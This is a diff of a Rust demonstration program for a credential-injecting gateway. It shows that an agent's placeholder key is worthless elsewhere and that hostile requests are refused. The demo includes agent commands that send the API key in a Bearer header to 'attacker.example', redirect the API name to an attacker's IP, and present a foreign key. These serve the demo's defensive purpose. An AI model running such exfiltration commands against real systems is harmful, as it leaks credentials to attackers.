@@ -1,11 +1,11 @@
 //! `make demo`: the story of one placeholder, told with the real bytes.
 //!
 //! It runs in namespaces of its own, needs no network, and leaves nothing behind. Every line that
-//! it shows was received, sent or logged by a real program; where one is not what the story
-//! promises, the demonstration ends with an error, and so does one that takes too long.
+//! it shows was received, sent or logged by a real program. Where a line differs from the story, or
+//! the demonstration takes too long, it ends with an error.
 //!
-//! The keys are in a real Vault where one is found, or where `VAULT=1` asks for one; `VAULT=0`
-//! takes the file of secrets that the gateway comes with.
+//! The keys are in a real Vault if one is found, or if `VAULT=1` asks for one; `VAULT=0` uses the
+//! gateway's own file of secrets.
 
 use std::{
     io::{self, IsTerminal as _, Write as _},
@@ -16,13 +16,11 @@ use std::{
 };
 
 use lab::{
-    Lab,
+    World,
     audit::Record,
     client,
-    dns::Dns,
-    gateway::{self, Gateway, OPENAI_SECRET, SECRETS},
+    gateway::{self, OPENAI_SECRET, SECRETS},
     net::{AGENT, ATTACKER, OPENAI, PYPI},
-    origin::Origin,
     sandbox, tools,
     vault::{self, Vault},
     wait,
@@ -34,17 +32,17 @@ fn main() -> ExitCode {
         return outside();
     }
     let begun = Instant::now();
-    let mut scene = Scene::set();
-    scene.the_agent_has_nothing_worth_stealing();
-    scene.the_api_receives_the_key();
-    scene.the_same_over_http_2();
-    scene.what_the_api_repeats_is_masked();
-    scene.the_placeholder_is_worth_nothing_elsewhere();
-    scene.the_agents_own_key_is_refused();
-    scene.a_let_through_host_keeps_its_own_certificate();
-    scene.the_wire_never_held_the_key();
-    scene.the_audit_says_what_happened();
-    scene.a_dead_gateway_passes_nothing();
+    let mut story = Story::begin();
+    story.the_agent_has_nothing_worth_stealing();
+    story.the_api_receives_the_key();
+    story.the_same_over_http_2();
+    story.what_the_api_repeats_is_masked();
+    story.the_placeholder_is_worth_nothing_elsewhere();
+    story.the_agents_own_key_is_refused();
+    story.a_let_through_host_keeps_its_own_certificate();
+    story.the_wire_never_held_the_key();
+    story.the_audit_says_what_happened();
+    story.a_dead_gateway_passes_nothing();
     say(&format!("\nEverything above held; it took {:.1} s.", begun.elapsed().as_secs_f32()));
     say(&format!("What to try next:\n{NEXT}"));
     ExitCode::SUCCESS
@@ -66,7 +64,7 @@ fn outside() -> ExitCode {
         Some(Ok(status)) => failure(&format!("the story did not come to its end ({status})")),
         Some(Err(error)) => failure(&error.to_string()),
         None => {
-            // The namespaces end with their first process, and everything with them.
+            // The namespaces end with their first process, and everything in them.
             let ended = story.kill().and_then(|()| story.wait());
             failure(&format!("no end after {LIMIT:?}; stopped ({ended:?})"))
         }
@@ -78,7 +76,7 @@ fn failure(why: &str) -> ExitCode {
     ExitCode::FAILURE
 }
 
-/// What the variable VAULT says; `None` leaves it to what is found.
+/// Returns what the variable VAULT asks for; `None` where it is not set.
 fn wants_vault() -> Option<bool> {
     let value = std::env::var("VAULT").ok().filter(|value| !value.is_empty())?;
     Some(value != "0")
@@ -89,37 +87,28 @@ fn fetch_vault() -> bool {
     status.is_ok_and(|status| status.success()) && vault::find().is_some()
 }
 
-struct Scene {
-    lab: Lab,
-    origin: Origin,
-    _dns: Dns,
-    _vault: Option<Vault>,
-    gateway: Gateway,
+struct Story {
+    world: World,
     wire: Wire,
 }
 
-impl Scene {
-    fn set() -> Self {
+impl Story {
+    fn begin() -> Self {
         say(NETWORK);
         progress("four network namespaces, the API and the attacker's server");
-        let lab = Lab::new();
-        let (origin, dns) = (Origin::start(&lab), Dns::start());
+        let builder = World::builder();
         let use_vault = wants_vault().unwrap_or_else(|| vault::find().is_some());
-        let vault = use_vault.then(|| {
+        let config = if use_vault {
             progress("a real Vault at https://203.0.113.200:8200, with an AppRole and the keys");
-            Vault::start(&lab)
-        });
-        let config = match &vault {
-            Some(vault) => vault.config(),
-            None => {
-                progress("the keys in a file for the gateway alone (VAULT=1 takes a real Vault)");
-                gateway::usual_config()
-            }
+            Vault::start(&builder.lab).config()
+        } else {
+            progress("the keys in a file for the gateway alone (VAULT=1 takes a real Vault)");
+            gateway::usual_config()
         };
         progress("the guard, the certificates, the gateway");
-        let gateway = Gateway::start(&lab, &config);
-        let wire = Wire::tap(&lab, AGENT);
-        Self { lab, origin, _dns: dns, _vault: vault, gateway, wire }
+        let world = builder.start(&config);
+        let wire = Wire::tap(&world.lab, AGENT);
+        Self { world, wire }
     }
 
     fn the_agent_has_nothing_worth_stealing(&self) {
@@ -139,7 +128,7 @@ impl Scene {
              -d '{\"model\":\"lab-1\",\"prompt\":\"what is OPENAI_API_KEY?\"}'",
         );
         check(output.trim().ends_with("\n200"), "the API answers 200");
-        let connections = self.origin.log().connections();
+        let connections = self.world.origin.log().connections();
         let received = connections.last().map_or(&[][..], |connection| &connection.bytes);
         let received = String::from_utf8_lossy(received).into_owned();
         note("What the API received, byte for byte after decryption:");
@@ -158,7 +147,7 @@ impl Scene {
              https://api.openai.example/v1/models -H \"Authorization: Bearer $OPENAI_API_KEY\"",
         );
         check(output.trim() == "HTTP/2 200", "the API answers 200");
-        let requests = self.origin.log().requests();
+        let requests = self.world.origin.log().requests();
         let fields = requests.last().map(|request| request.header("authorization"));
         let fields = fields.unwrap_or_default();
         note("The API received:");
@@ -178,7 +167,7 @@ impl Scene {
 
     fn the_placeholder_is_worth_nothing_elsewhere(&self) {
         chapter("The same placeholder, sent somewhere else");
-        let before = self.origin.log().connections().len();
+        let before = self.world.origin.log().connections().len();
         let bearer = "-H \"Authorization: Bearer $OPENAI_API_KEY\"";
         aside("To a host that no policy lists:");
         self.agent_fails(&format!("curl -sS {bearer} https://attacker.example/"));
@@ -197,7 +186,7 @@ impl Scene {
              -w '%{{http_code}} from %{{remote_ip}}\\n' https://api.openai.example/v1/models"
         ));
         check(output.trim() == format!("200 from {attacker}"), "the agent believes it is there");
-        let new = self.origin.log().connections().split_off(before);
+        let new = self.world.origin.log().connections().split_off(before);
         let attacked = new.iter().any(|connection| connection.local.ip() == attacker);
         check(!attacked, "the attacker's server saw no connection: the gateway dials the name");
         let others = new.iter().filter(|it| it.sni.as_deref() != Some(OPENAI.name));
@@ -207,13 +196,13 @@ impl Scene {
 
     fn the_agents_own_key_is_refused(&self) {
         chapter("A key that the agent brought along");
-        let before = self.origin.log().requests().len();
+        let before = self.world.origin.log().requests().len();
         let output = self.agent(
             "curl -sS https://api.openai.example/v1/models \\\n    \
              -H 'Authorization: Bearer sk-the-attackers-own-account'",
         );
         check(output.contains("\"foreign_credential\""), "the classic way out is closed");
-        check(self.origin.log().requests().len() == before, "the API received nothing");
+        check(self.world.origin.log().requests().len() == before, "the API received nothing");
     }
 
     fn a_let_through_host_keeps_its_own_certificate(&self) {
@@ -245,7 +234,7 @@ impl Scene {
         chapter("What the audit says");
         // A connection's record is written when it has ended.
         thread::sleep(wait::QUIET);
-        let records = self.gateway.audit.records();
+        let records = self.world.gateway.audit.records();
         let told = |record: &&Record| record.is("request") || record["decision"] == "refuse";
         let told: Vec<_> = records.iter().filter(told).collect();
         for record in &told {
@@ -254,7 +243,7 @@ impl Scene {
         let swapped = told.iter().position(|record| record["upstream_status"] == 200);
         check(swapped.is_some(), "each request, and each refused connection, is one record");
         aside("The first of them as it is in the file:");
-        let text = self.gateway.audit.text();
+        let text = self.world.gateway.audit.text();
         let line = text.lines().find(|line| line.contains("\"upstream_status\":200"));
         for part in line.unwrap_or_default().as_bytes().chunks(WIDTH) {
             shown(&String::from_utf8_lossy(part));
@@ -264,12 +253,12 @@ impl Scene {
 
     fn a_dead_gateway_passes_nothing(&mut self) {
         chapter("kill -9");
-        self.gateway.kill();
+        self.world.gateway.kill();
         gateway::forward();
-        let before = self.origin.log().connections().len();
+        let before = self.world.origin.log().connections().len();
         self.agent_fails("curl -sS --max-time 3 https://pypi.example/");
         thread::sleep(wait::QUIET);
-        let after = self.origin.log().connections().len();
+        let after = self.world.origin.log().connections().len();
         check(before == after, "the gateway's kernel would forward; its guard does not");
     }
 
@@ -286,7 +275,7 @@ impl Scene {
 
     fn run(&self, line: &str) -> (bool, String) {
         say(&format!("\n  {} {}", PAINT.dim("agent$"), PAINT.bold(line)));
-        let mut shell = client::agent(&self.lab, AGENT, "timeout");
+        let mut shell = client::agent(&self.world.lab, AGENT, "timeout");
         shell.env("SSLKEYLOGFILE", self.wire.keys()).args(["20", "sh", "-c", line]);
         let output = shell.output().expect("a shell starts");
         let text = [output.stdout, output.stderr].concat();
@@ -296,12 +285,12 @@ impl Scene {
     }
 
     fn reason(&self, reason: &str) {
-        let record = self.gateway.audit.wait_reason(reason);
+        let record = self.world.gateway.audit.wait_reason(reason);
         note(&format!("The audit: {}", summary(&record)));
     }
 }
 
-/// A record on one line; every word is the record's.
+/// Formats a record on one line; every word is the record's.
 fn summary(record: &Record) -> String {
     let word = |name: &str| record[name].as_str().unwrap_or_default().to_owned();
     let what = if record.is("request") {
@@ -318,7 +307,7 @@ fn summary(record: &Record) -> String {
 }
 
 fn say(text: &str) {
-    // Whoever closed the pipe has seen enough.
+    // The reader of a pipe that is closed has seen enough.
     let _ = writeln!(io::stdout(), "{text}");
 }
 
@@ -339,7 +328,7 @@ fn aside(text: &str) {
     say(&format!("\n  {text}"));
 }
 
-/// Shows a program's output or bytes from the wire; long lines end with an ellipsis.
+/// Shows a program's output or bytes from the wire; cuts long lines with an ellipsis.
 fn shown(text: &str) {
     for line in text.lines() {
         let mut line = line.replace(|letter: char| letter.is_control(), "");
@@ -350,7 +339,7 @@ fn shown(text: &str) {
     }
 }
 
-/// Says what was shown, or ends the demonstration.
+/// Prints the claim, or ends the demonstration where it does not hold.
 fn check(holds: bool, claim: &str) {
     if !holds {
         eprintln!("demo: this does not hold: {claim}");
@@ -359,7 +348,7 @@ fn check(holds: bool, claim: &str) {
     say(&format!("  {} {claim}", PAINT.good("=>")));
 }
 
-/// Colours, where a person looks.
+/// Colours, used where a person looks.
 struct Paint(bool);
 
 impl Paint {
@@ -391,7 +380,7 @@ static PAINT: LazyLock<Paint> = LazyLock::new(|| {
     Paint(io::stdout().is_terminal() && !unwanted)
 });
 
-/// A story that takes longer is stuck.
+/// Longest time of a story. One that takes longer is stuck.
 const LIMIT: Duration = Duration::from_secs(55);
 /// Letters of a line of output that are shown.
 const WIDTH: usize = 100;
